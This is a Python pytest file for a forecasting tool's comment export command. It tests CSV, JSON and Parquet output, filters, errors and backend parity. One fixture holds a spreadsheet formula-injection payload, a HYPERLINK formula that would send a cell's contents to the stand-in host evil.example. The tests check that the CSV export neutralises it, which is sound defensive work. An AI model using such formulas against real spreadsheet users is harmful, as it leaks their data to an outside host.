"""`forecast export comments`: every comment on a live question, guarded in CSV, exact in JSON and Parquet,
the same on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import orjson
import pytest

from tests.cli_runner import invoke
from tests.export.conftest_data import SMALL

COLUMNS = ["id", "slug", "title", "tags", "author", "body", "created_at", "updated_at", "edited"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMENTS = [  # written out of order: the export orders by slug, then time written
    {"question": "q-rain", "author": "alice", "body": "Met Office says 70 %.\nECMWF agrees, mostly.",
     "created_at": "2024-01-02T09:00:00Z", "updated_at": "2024-01-02T10:30:00.250000Z"},
    {"question": "q-formula", "author": "-bob", "body": FORMULA, "created_at": "2024-06-02T00:00:00Z"},
    {"question": "q-rain", "author": "carol", "body": "@everyone: dry spell, I think", "created_at": "2024-01-01T12:00:00Z"},
    {"question": "q-open", "author": "alice", "body": "Too early to say, see \"the thread\", later", "created_at": "2024-03-01T00:00:00Z"},
]  # fmt: skip


def build_with_comments(url: str) -> None:
    lines = SMALL.read_bytes().splitlines() + [orjson.dumps({"type": "comment", **c}) for c in COMMENTS]
    res = invoke("import", "jsonl", "-", db=url, input=b"\n".join(lines).decode() + "\n")
    assert res.code == 0, res.err


def export(url: str, *args: str):
    res = invoke("export", "comments", *args, db=url)
    assert res.code == 0, res.err
    return res


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def sqlite_db(tmp_path_factory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('comments') / 'small.db'}"
    build_with_comments(url)
    return url


def test_columns_order_and_csv_guard(db_url):
    build_with_comments(db_url)
    res = export(db_url)
    assert res.err == "4 comments\n"
    rows = rows_of(res.out)
    assert list(rows[0]) == COLUMNS
    assert [(r["slug"], r["author"]) for r in rows] == [
        ("q-formula", "'-bob"), ("q-open", "alice"), ("q-rain", "carol"), ("q-rain", "alice"),
    ]  # fmt: skip
    formula = rows[0]
    assert formula["body"] == "'" + FORMULA and formula["title"] == "'" + FORMULA  # text a spreadsheet would run
    assert formula["tags"] == "'@at;beta" and formula["edited"] == "false"
    assert rows[2]["body"] == "'@everyone: dry spell, I think"
    alice = rows[3]
    assert alice["body"] == "Met Office says 70 %.\nECMWF agrees, mostly."  # the line break kept, in a quoted cell
    assert (alice["created_at"], alice["updated_at"]) == ("2024-01-02T09:00:00Z", "2024-01-02T10:30:00.250000Z")  # micros per column
    assert alice["edited"] == "true" and alice["title"] == "Will it rain on 11 January?"
    assert rows[1]["body"] == 'Too early to say, see "the thread", later'
    assert len({r["id"] for r in rows}) == 4 and all(r["id"].isdigit() for r in rows)


def test_same_file_from_every_backend(db_url, sqlite_db):
    build_with_comments(db_url)
    theirs, ours = rows_of(export(db_url).out), rows_of(export(sqlite_db).out)
    drop_id = [{k: v for k, v in r.items() if k != "id"} for r in theirs]  # ids are the database's own
    assert drop_id == [{k: v for k, v in r.items() if k != "id"} for r in ours]


def test_json_and_parquet_carry_the_text_exactly(sqlite_db, tmp_path):
    as_json = export(sqlite_db, "--format", "json").json()
    assert [r["author"] for r in as_json] == ["-bob", "alice", "carol", "alice"]  # no guard outside CSV
    assert as_json[0]["body"] == FORMULA and as_json[0]["tags"] == ["@at", "beta"] and as_json[0]["edited"] is False
    assert isinstance(as_json[0]["id"], int)
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow is the optional parquet extra")
    export(sqlite_db, "-o", str(tmp_path / "c.parquet"))
    as_parquet = pq.read_table(tmp_path / "c.parquet").to_pylist()
    for j, p in zip(as_json, as_parquet, strict=True):
        assert p["body"] == j["body"] and p["author"] == j["author"] and p["edited"] == j["edited"]
        assert p["updated_at"] == datetime.fromisoformat(j["updated_at"]) and p["tags"] == j["tags"]


def test_filters(sqlite_db):
    by = rows_of(export(sqlite_db, "--by", "alice").out)
    assert [r["slug"] for r in by] == ["q-open", "q-rain"]
    assert {r["author"] for r in rows_of(export(sqlite_db, "--by", "alice", "--by", "carol").out)} == {"alice", "carol"}
    assert [r["slug"] for r in rows_of(export(sqlite_db, "--tag", "alpha").out)] == ["q-open", "q-rain", "q-rain"]
    window = rows_of(export(sqlite_db, "--since", "2024-01-02", "--until", "2024-06-02").out)
    assert [(r["slug"], r["author"]) for r in window] == [("q-open", "alice"), ("q-rain", "alice")]  # until is exclusive


def test_unknown_names_and_bad_options_are_one_line(sqlite_db):
    res = invoke("export", "comments", "--by", "nobody", db=sqlite_db)
    assert res.code == 1 and res.err == "forecast: no forecaster or comment author named 'nobody'\n" and res.out == ""
    res = invoke("export", "comments", "--tag", "nope", db=sqlite_db)
    assert res.code == 1 and res.err == "forecast: no tag named 'nope'\n"
    res = invoke("export", "comments", "--format", "xlsx", db=sqlite_db)
    assert res.code == 2 and "--format 'xlsx' is not one of: csv, json, parquet" in res.err
    # carol never forecast, but she commented: a real author, not a typo
    assert [r["author"] for r in rows_of(export(sqlite_db, "--by", "carol").out)] == ["carol"]


def test_comments_on_a_deleted_question_are_not_exported(db_url):
    build_with_comments(db_url)
    assert invoke("q", "rm", "q-open", db=db_url).code == 0
    assert [r["slug"] for r in rows_of(export(db_url).out)] == ["q-formula", "q-rain", "q-rain"]
    empty = invoke("export", "comments", "--by", "-bob", "--tag", "alpha", db=db_url)
    assert empty.code == 0 and empty.out.splitlines() == [",".join(COLUMNS)] and empty.err == "0 comments\n"
